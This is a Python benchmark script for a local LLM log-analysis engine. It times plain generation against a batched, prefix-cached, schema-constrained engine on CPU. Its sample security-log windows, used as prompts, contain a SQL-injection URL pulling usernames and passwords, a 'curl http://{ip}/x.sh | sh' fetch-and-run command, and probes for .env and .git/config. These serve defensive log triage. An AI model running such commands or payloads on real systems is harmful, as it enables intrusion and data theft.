"""Engine benchmark on CPU with the embedded model, against a baseline measured in the same run.

Baseline: plain `model.generate`, one request at a time, full prompt every time (no prefix reuse),
unconstrained, greedy. Engine: `LocalEngine.generate` over all requests (left-padded batches,
prefix KV reuse, xgrammar-constrained `LLMAssessment`), plus one `stream()` for time to first token.
Prints a table and writes JSON. `--experiment` runs one of the speed studies reported in
docs/ENGINE.md instead (threads, prompt-lookup decoding, static cache + torch.compile).

    OMP_WAIT_POLICY=PASSIVE python bench/engine.py                # ~6-10 min on 2 busy cores
    python bench/engine.py --experiment threads --max-new-tokens 32
"""

from __future__ import annotations

import argparse
import json
import statistics
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import torch

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from logwarden.engine.api import Request  # noqa: E402
from logwarden.app.config import get_settings  # noqa: E402
from logwarden.engine.load import load_engine  # noqa: E402
from logwarden.schemas import LLMAssessment, assessment_json_schema  # noqa: E402

WINDOWS = [
    "host=web-01 program=sshd 02:14:07..02:16:51 lines=412\n[398] Failed password for <user> from <ip> port <num> ssh2"
    " users: root(211) admin(97) oracle(90) ips: {ip}(398)\n[1] Accepted password for admin from {ip} port 50122 ssh2",
    'host=shop-02 program=nginx lines=1\n{ip} - - [02/May/2024:10:01:13 +0000] "GET /products.php?id=1%27%20UNION'
    '%20SELECT%20username,password%20FROM%20users--%20 HTTP/1.1" 200 5123 "-" "sqlmap/1.7.2"',
    "host=db-03 program=CRON lines=24\n[24] (root) CMD (run-parts /etc/cron.hourly)",
    "host=web-01 program=sudo lines=3\n[3] www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash -c"
    " curl http://{ip}/x.sh | sh",
    'host=shop-02 program=apache lines=57\n[57] "GET /<path> HTTP/1.1" 404 paths: /.env(9) /wp-login.php(12)'
    " /phpmyadmin/(8) /.git/config(11) ips: {ip}(57)",
    "host=dc-01 channel=Security lines=2\nEventID 4720 TargetUserName=svc_backup2 SubjectUserName=jdoe\n"
    "EventID 4732 MemberName=svc_backup2 TargetUserName=Administrators",
    "host=app-07 program=kernel lines=5\n[3] Out of memory: Killed process <num> (java) total-vm:<num>kB\n"
    "[2] EXT4-fs error (device sda1): ext4_find_entry: reading directory lblock 0",
    "host=aws program=cloudtrail lines=6\n[6] s3.amazonaws.com GetObject user=ci-deploy from {ip} "
    "bucket=customer-exports objects=4812 bytes=38GB",
]
IPS = ["203.0.113.45", "198.51.100.23"]


def prompts() -> tuple[str, list[str]]:
    """The project's real system prompt when the prompts package has it, else the tests' one."""
    try:
        from logwarden.prompts import system_prompt, user_prompt

        return system_prompt(), [user_prompt(w.format(ip=ip)) for ip in IPS for w in WINDOWS]
    except ImportError:
        sys.path.insert(0, str(ROOT / "tests"))
        from _engine_helpers import ANALYST_SYSTEM

        return ANALYST_SYSTEM, [w.format(ip=ip) for ip in IPS for w in WINDOWS]


class FirstTokenClock:
    """A transformers streamer that notes when the first generated token arrives."""

    def __init__(self) -> None:
        self.start = time.perf_counter()
        self.first: float | None = None
        self._calls = 0

    def put(self, value: Any) -> None:
        self._calls += 1
        if self._calls == 2 and self.first is None:  # call 1 is the prompt itself
            self.first = time.perf_counter() - self.start

    def end(self) -> None:
        pass


def baseline_one(engine: Any, request: Request, max_new_tokens: int, **generate_kwargs: Any) -> dict:
    tok, model = engine.tokenizer, engine.model
    text = tok.apply_chat_template([{"role": "system", "content": request.system},
                                    {"role": "user", "content": request.user}],
                                   tokenize=False, add_generation_prompt=True)
    inputs = tok(text, return_tensors="pt", add_special_tokens=False)
    clock = FirstTokenClock()
    with torch.inference_mode():
        out = model.generate(**inputs, max_new_tokens=max_new_tokens, do_sample=False, streamer=clock,
                             pad_token_id=tok.pad_token_id, **generate_kwargs)
    total = time.perf_counter() - clock.start
    new = out.shape[1] - inputs["input_ids"].shape[1]
    ttft = clock.first or total
    answer = tok.decode(out[0, inputs["input_ids"].shape[1]:], skip_special_tokens=True)
    return {"ttft_s": ttft, "total_s": total, "new_tokens": new, "prompt_tokens": inputs["input_ids"].shape[1],
            "decode_tps": (new - 1) / max(total - ttft, 1e-9), "text": answer}


def run_baseline(engine: Any, requests: list[Request], max_new_tokens: int) -> dict:
    runs = [baseline_one(engine, r, max_new_tokens) for r in requests]
    seconds = sum(r["total_s"] for r in runs)
    return {"requests": len(runs), "wall_s": seconds, "requests_per_s": len(runs) / seconds,
            "ttft_s": statistics.mean(r["ttft_s"] for r in runs),
            "decode_tps": statistics.mean(r["decode_tps"] for r in runs),
            "new_tokens": sum(r["new_tokens"] for r in runs),
            "valid_json": sum(_valid(r["text"]) for r in runs)}


def run_engine(engine: Any, requests: list[Request], max_new_tokens: int) -> dict:
    schema = assessment_json_schema()
    engine.generate(requests[:1], schema=schema, max_new_tokens=1)  # compiles the grammar, fills the prefix KV
    start = time.perf_counter()
    generations = engine.generate(requests, schema=schema, max_new_tokens=max_new_tokens)
    wall = time.perf_counter() - start
    stream = engine.stream(requests[1], schema=schema, max_new_tokens=max_new_tokens)
    for _ in stream:
        pass
    new_tokens = sum(g.stats.new_tokens for g in generations)
    return {"requests": len(generations), "wall_s": wall, "requests_per_s": len(generations) / wall,
            "batch_ttft_s": statistics.mean(g.stats.ttft_s for g in generations),
            "stream_ttft_s": stream.generation.stats.ttft_s,
            "stream_decode_tps": stream.generation.stats.tokens_per_s,
            "aggregate_tps": new_tokens / wall, "new_tokens": new_tokens,
            "finished": sum(g.finished for g in generations),
            "valid_json": sum(_valid(g.text) for g in generations),
            "cached_prefix_tokens": generations[0].stats.cached_prefix_tokens,
            "peak_memory_mb": max(g.stats.peak_memory_mb for g in generations)}


def _valid(text: str) -> bool:
    try:
        LLMAssessment.model_validate_json(text)
        return True
    except ValueError:
        return False


def report(base: dict, eng: dict, engine: Any) -> dict:
    rows = [
        ("time to first token (s)", base["ttft_s"], eng["stream_ttft_s"]),
        ("decode tokens/s, one request", base["decode_tps"], eng["stream_decode_tps"]),
        ("decode tokens/s, whole run", base["new_tokens"] / base["wall_s"], eng["aggregate_tps"]),
        ("requests/s", base["requests_per_s"], eng["requests_per_s"]),
        ("schema-valid answers", base["valid_json"] / base["requests"], eng["valid_json"] / eng["requests"]),
    ]
    print(f"\nengine: {json.dumps(engine.describe())}")
    print(f"{'metric':34} {'baseline':>10} {'engine':>10} {'ratio':>8}")
    for name, b, e in rows:
        ratio = f"{(b / e if 'first token' in name else e / b):7.2f}x" if b and e else "    n/a"
        print(f"{name:34} {b:10.3f} {e:10.3f} {ratio}")
    print("(ratio > 1 = engine better; TTFT ratio = baseline/engine)")
    return {"baseline": base, "engine": eng, "describe": engine.describe(),
            "ratios": {name: ((b / e) if "first token" in name else (e / b)) if b and e else None
                       for name, b, e in rows}}


# ---- experiments -------------------------------------------------------------------------------

def experiment_threads(engine: Any, requests: list[Request], max_new_tokens: int) -> dict:
    """Decode speed at 1 and 2 threads, interleaved twice so drifting load hits both alike."""
    results: dict[str, list[float]] = {"1": [], "2": []}
    for _ in range(2):
        for threads in (1, 2):
            torch.set_num_threads(threads)
            run = baseline_one(engine, requests[0], max_new_tokens)
            results[str(threads)].append(run["decode_tps"])
            print(f"threads={threads} decode {run['decode_tps']:.2f} tok/s ttft {run['ttft_s']:.2f}s", flush=True)
    return {k: statistics.mean(v) for k, v in results.items()}


def experiment_lookup(engine: Any, requests: list[Request], max_new_tokens: int) -> dict:
    """transformers' prompt-lookup decoding vs plain greedy on the same prompts (unconstrained)."""
    out = {}
    for label, kwargs in [("plain", {}), ("prompt_lookup_10", {"prompt_lookup_num_tokens": 10})]:
        runs = [baseline_one(engine, r, max_new_tokens, **kwargs) for r in requests[:2]]
        out[label] = {"decode_tps": statistics.mean(r["decode_tps"] for r in runs),
                      "same_text": [r["text"][:80] for r in runs]}
        print(label, out[label], flush=True)
    return out


def experiment_compile(engine: Any, requests: list[Request], max_new_tokens: int) -> dict:
    """Static KV cache + compiled decode step (transformers' own path) vs dynamic cache, eager."""
    out = {}
    for label, kwargs in [("dynamic_eager", {}), ("static_compiled", {"cache_implementation": "static"})]:
        runs = [baseline_one(engine, requests[0], max_new_tokens, **kwargs) for _ in range(2)]
        out[label] = {"first_call_s": runs[0]["total_s"], "decode_tps": runs[1]["decode_tps"]}
        print(label, out[label], flush=True)
    return out


EXPERIMENTS = {"threads": experiment_threads, "lookup": experiment_lookup, "compile": experiment_compile}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--requests", type=int, default=16)
    parser.add_argument("--baseline-requests", type=int, default=3,
                        help="baseline is sequential: its per-request cost is measured on this many")
    parser.add_argument("--max-new-tokens", type=int, default=160)
    parser.add_argument("--max-batch", type=int, default=8)
    parser.add_argument("--threads", type=int, default=None)
    parser.add_argument("--experiment", choices=sorted(EXPERIMENTS))
    parser.add_argument("--json", type=Path, default=Path(tempfile.gettempdir()) / "logwarden-bench-engine.json")
    args = parser.parse_args()

    engine = load_engine(threads=args.threads, max_batch=args.max_batch, cache_dir=get_settings().model_cache)
    system, users = prompts()
    requests = [Request(system, users[i % len(users)]) for i in range(args.requests)]
    if args.experiment:
        result = {"experiment": args.experiment,
                  "result": EXPERIMENTS[args.experiment](engine, requests, args.max_new_tokens)}
    else:
        base = run_baseline(engine, requests[: args.baseline_requests], args.max_new_tokens)
        eng = run_engine(engine, requests, args.max_new_tokens)
        result = report(base, eng, engine)
    result["args"] = {k: str(v) for k, v in vars(args).items()}
    args.json.write_text(json.dumps(result, indent=2, default=str))
    print(f"wrote {args.json}")


if __name__ == "__main__":
    main()
